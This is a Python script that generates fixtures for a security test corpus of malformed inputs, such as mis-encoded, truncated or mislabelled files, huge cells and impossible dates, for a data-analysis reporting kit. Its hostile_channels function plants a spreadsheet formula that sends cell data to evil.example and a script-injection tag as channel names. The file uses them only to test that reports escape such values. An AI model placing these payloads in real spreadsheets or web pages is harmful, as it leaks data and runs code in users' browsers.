"""Write the fixtures of the bad-input corpus that are not kept as committed text files.

Binary files (UTF-16, a PNG and random bytes renamed .csv, a zip renamed .xlsx, Excel and
Parquet files), files with 100,000-character lines, and large inputs derived from the demo
data in ``datasets/`` (10,000 channels, an order in 2099, a cohort cut mid-month, ...) are
made here instead of being committed: they would be large, opaque in a diff, or a copy of
the demo data with one cell changed. Everything is deterministic (fixed seeds, no clock).

The corpus test (``tests/security/test_bad_input_corpus.py``) copies this folder to a
temporary directory and calls :func:`make_all` there, so a test run never writes into the
checkout. To look at the fixtures by hand::

    .venv/bin/python tests/data/bad_input/make_binary.py /tmp/bad_input

copies the corpus to ``/tmp/bad_input`` and writes the generated files into it.
"""

from __future__ import annotations

import csv
import io
import random
import shutil
import sys
import zipfile
from collections.abc import Callable, Iterable
from pathlib import Path

HERE = Path(__file__).resolve().parent
DATASETS = HERE.parents[2] / "datasets"

ORDERS_HEADER = ["customer_id", "order_date", "revenue", "order_id", "acquisition_channel"]
ORDERS_ROWS = [
    ["c001", "2025-01-05 10:00:00", "49.90", "o001", "search"],
    ["c002", "2025-01-06 11:30:00", "19.00", "o002", "social"],
    ["c003", "2025-02-01 09:15:00", "120.50", "o003", "display"],
    ["c004", "2025-03-02 08:05:00", "12.99", "o004", "affiliate"],
]
# The first bytes of a real PNG (signature and IHDR chunk of a 1x1 image).
PNG_HEADER = bytes.fromhex("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489")


def _csv_text(header: list[str], rows: Iterable[list[str]]) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue()


def _demo_rows(relative: str) -> tuple[list[str], list[list[str]]]:
    with (DATASETS / relative).open(encoding="utf-8", newline="") as handle:
        reader = csv.reader(handle)
        return next(reader), list(reader)


def _write_csv(path: Path, header: list[str], rows: Iterable[list[str]]) -> None:
    path.write_text(_csv_text(header, rows), encoding="utf-8")


def _random_bytes(size: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(size)


def _xlsx(path: Path, sheets: dict[str, list[list[object]]]) -> None:
    import xlsxwriter  # a dev dependency, as in the kit's Excel tests

    workbook = xlsxwriter.Workbook(str(path))
    for name, rows in sheets.items():
        sheet = workbook.add_worksheet(name)
        for row_number, row in enumerate(rows):
            sheet.write_row(row_number, 0, row)
    workbook.close()


# Binary and encoded files --------------------------------------------------------------


def utf16_le(case: Path) -> None:
    text = _csv_text(ORDERS_HEADER, ORDERS_ROWS)
    (case / "orders.csv").write_bytes(b"\xff\xfe" + text.encode("utf-16-le"))


def utf16_be(case: Path) -> None:
    text = _csv_text(ORDERS_HEADER, ORDERS_ROWS)
    (case / "orders.csv").write_bytes(b"\xfe\xff" + text.encode("utf-16-be"))


def utf16_le_without_bom(case: Path) -> None:
    text = _csv_text(ORDERS_HEADER, ORDERS_ROWS)
    (case / "orders.csv").write_bytes(text.encode("utf-16-le"))


def broken_xls(case: Path) -> None:
    # The signature of an old Excel (OLE) file and nothing after it: a cut-off download.
    (case / "orders.xls").write_bytes(bytes.fromhex("d0cf11e0a1b11ae1") + b"\x00" * 40)


def truncated_parquet(case: Path) -> None:
    parquet_wrong_types(case)
    whole = (case / "orders.parquet").read_bytes()
    (case / "orders.parquet").write_bytes(whole[: len(whole) // 2])


def png_as_csv(case: Path) -> None:
    (case / "orders.csv").write_bytes(PNG_HEADER + _random_bytes(2_000, seed=1))


def random_bytes(case: Path) -> None:
    (case / "touchpoints.csv").write_bytes(_random_bytes(20_000, seed=2))


def zip_as_xlsx(case: Path) -> None:
    with zipfile.ZipFile(case / "orders.xlsx", "w") as archive:
        archive.writestr("readme.txt", "this is a zip archive, not a workbook\n")


def empty_xlsx_sheet(case: Path) -> None:
    _xlsx(case / "orders.xlsx", {"Tabelle1": []})


def xlsx_named_sheet(case: Path) -> None:
    _xlsx(case / "orders.xlsx", {"Bestellungen": [ORDERS_HEADER, *ORDERS_ROWS]})


def xlsx_wrong_types(case: Path) -> None:
    rows = [
        [c, d, "zwölf" if i == 1 else float(r), o, a]
        for i, (c, d, r, o, a) in enumerate(ORDERS_ROWS)
    ]
    _xlsx(case / "orders.xlsx", {"Tabelle1": [ORDERS_HEADER, *rows]})


def parquet_wrong_types(case: Path) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    table = pa.table(
        {
            "customer_id": [1, 2, 3],  # integers where text ids are expected: allowed or cast
            "order_date": [20250105, 20250106, 20250201],  # a number, not a date
            "revenue": ["49,90 EUR", "19,00 EUR", "gratis"],  # text, not a number
        }
    )
    pq.write_table(table, case / "orders.parquet")


def long_cell(case: Path) -> None:
    rows = [
        ["c001", "2026-01-05 13:48:08", "display", "x" * 100_000, "impression"],
        ["c002", "2026-01-06 09:12:00", "search", "brand", "click"],
    ]
    _write_csv(
        case / "touchpoints.csv",
        ["customer_id", "timestamp", "channel", "campaign", "interaction"],
        rows,
    )


def long_header(case: Path) -> None:
    header = ["kunde_" + "y" * 100_000, "order_date", "revenue"]
    _write_csv(case / "orders.csv", header, [["c001", "2025-01-05", "49.90"]])


def notebook_not_json(case: Path) -> None:
    # Written here, not committed: pytest's notebook plugin would collect a committed .ipynb.
    (case / "my_report.ipynb").write_text("this is not a notebook\n", encoding="utf-8")


def overview_unreadable(case: Path) -> None:
    (case / "touchpoints.csv").write_bytes(PNG_HEADER + _random_bytes(5_000, seed=3))


def overview_one_unreadable(case: Path) -> None:
    (case / "orders.csv").write_bytes(PNG_HEADER + _random_bytes(1_000, seed=5))


def overview_utf16(case: Path) -> None:
    header, rows = _demo_rows("orders/orders.csv")
    text = _csv_text(header, rows[:400])
    (case / "orders.csv").write_bytes(b"\xff\xfe" + text.encode("utf-16-le"))


def batch_bad_input(case: Path) -> None:
    (case / "bad.csv").write_bytes(_random_bytes(3_000, seed=4))


# Inputs derived from the demo data -------------------------------------------------------


def hostile_channels(case: Path) -> None:
    """Channel names a spreadsheet would run as a formula and a browser as markup."""
    header, rows = _demo_rows("journeys/touchpoints.csv")
    column = header.index("channel")
    renamed = {
        "affiliate": '=HYPERLINK("http://evil.example/?q="&A1,"affiliate")',
        # the top channel, so its name is in the headline and the summary sentences
        "search": "<script>document.body.dataset.x='ran'</script>",
    }
    for row in rows:
        row[column] = renamed.get(row[column], row[column])
    _write_csv(case / "touchpoints.csv", header, rows)


def ten_thousand_channels(case: Path) -> None:
    header, rows = _demo_rows("journeys/touchpoints.csv")
    column = header.index("channel")
    for number, row in enumerate(rows):
        row[column] = f"channel_{number % 10_000:05d}"
    _write_csv(case / "touchpoints.csv", header, rows)


def inf_conversion(case: Path) -> None:
    header, rows = _demo_rows("journeys/conversions.csv")
    rows[10][header.index("value")] = "inf"
    _write_csv(case / "conversions.csv", header, rows)


def partial_period_and_2099(case: Path) -> None:
    """The demo orders cut on 3 December (the last month is 3 days observed), plus an
    order dated 2099 (a typo that would otherwise stretch every cohort to 2099)."""
    header, rows = _demo_rows("orders/orders.csv")
    column = header.index("order_date")
    kept = [r for r in rows if r[column] < "2025-12-04"]
    extra = dict(zip(header, rows[0], strict=True))
    extra.update(order_date="2099-06-01 12:00:00", order_id="o999999", revenue="25.00")
    _write_csv(case / "orders.csv", header, [*kept, [extra[name] for name in header]])


def one_variant(case: Path) -> None:
    header, rows = _demo_rows("experiment/experiment.csv")
    column = header.index("variant")
    _write_csv(case / "experiment.csv", header, [r for r in rows[:4_000] if r[column] == "control"])


def zero_conversions(case: Path) -> None:
    """100 units per arm and no conversion (nor order or revenue) in either arm."""
    header, rows = _demo_rows("experiment/experiment.csv")
    variant = header.index("variant")
    kept = [r for r in rows if r[variant] == "control"][:100]
    kept += [r for r in rows if r[variant] == "treatment"][:100]
    for row in kept:
        for name, zero in (("converted", "0"), ("orders", "0"), ("revenue", "0.0")):
            row[header.index(name)] = zero
    _write_csv(case / "experiment.csv", header, kept)


def leads_missing_with_names(case: Path) -> None:
    """The lead attribute table without every fifth lead, and with first and last names
    (personal data that must not reach the report or its tables)."""
    header, rows = _demo_rows("leads/leads.csv")
    rows = [[*r, f"Anna{i}", f"Mustermann{i}"] for i, r in enumerate(rows) if i % 5 != 0]
    _write_csv(case / "leads.csv", [*header, "first_name", "last_name"], rows)


def lead_event_2999(case: Path) -> None:
    header, rows = _demo_rows("leads/lead_events.csv")
    extra = list(rows[1])
    extra[header.index("timestamp")] = "2999-12-31 10:00:00"
    _write_csv(case / "lead_events.csv", header, [*rows, extra])


MAKERS: dict[str, Callable[[Path], None]] = {
    "v_utf16_le": utf16_le,
    "v_utf16_be": utf16_be,
    "v_utf16_le_without_bom": utf16_le_without_bom,
    "v_xls_signature_only": broken_xls,
    "v_parquet_cut_in_half": truncated_parquet,
    "v_png_as_csv": png_as_csv,
    "v_random_bytes": random_bytes,
    "v_zip_as_xlsx": zip_as_xlsx,
    "v_empty_xlsx_sheet": empty_xlsx_sheet,
    "v_xlsx_missing_sheet": xlsx_named_sheet,
    "v_xlsx_wrong_types": xlsx_wrong_types,
    "v_parquet_wrong_types": parquet_wrong_types,
    "v_long_cell": long_cell,
    "v_long_header": long_header,
    "p_notebook_not_json": notebook_not_json,
    "p_params_notebook_not_json": notebook_not_json,
    "r_overview_unreadable": overview_unreadable,
    "r_overview_two_unreadable": overview_one_unreadable,
    "r_overview_utf16": overview_utf16,
    "r_batch_one_bad": batch_bad_input,
    "r_attr_hostile_channels": hostile_channels,
    "r_attr_10000_channels": ten_thousand_channels,
    "r_attr_inf_conversion": inf_conversion,
    "r_ltv_partial_period_and_2099": partial_period_and_2099,
    "r_ab_one_variant": one_variant,
    "r_ab_zero_conversions": zero_conversions,
    "r_nurture_leads_missing_with_names": leads_missing_with_names,
    "r_nurture_event_2999": lead_event_2999,
}


def make_all(root: Path, cases: Iterable[str] | None = None) -> None:
    """Write the generated fixtures of `cases` (default: all) into ``root/<case>/``."""
    for case in MAKERS if cases is None else cases:
        if case in MAKERS:
            folder = Path(root) / case
            folder.mkdir(parents=True, exist_ok=True)
            MAKERS[case](folder)


def materialize(target: Path) -> Path:
    """Copy the corpus to `target`, fill in ``{case}`` in its YAML files, write the fixtures.

    Returns the copy's root; every case folder is ``target/<case id>``.
    """
    target = Path(target)
    shutil.copytree(HERE, target, ignore=shutil.ignore_patterns("__pycache__"), dirs_exist_ok=True)
    for config in target.glob("*/*.yaml"):
        if config.is_file():
            text = config.read_text(encoding="utf-8")
            config.write_text(text.replace("{case}", str(config.parent)), encoding="utf-8")
    make_all(target)
    return target


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: make_binary.py TARGET_FOLDER")
    print(materialize(Path(sys.argv[1])))
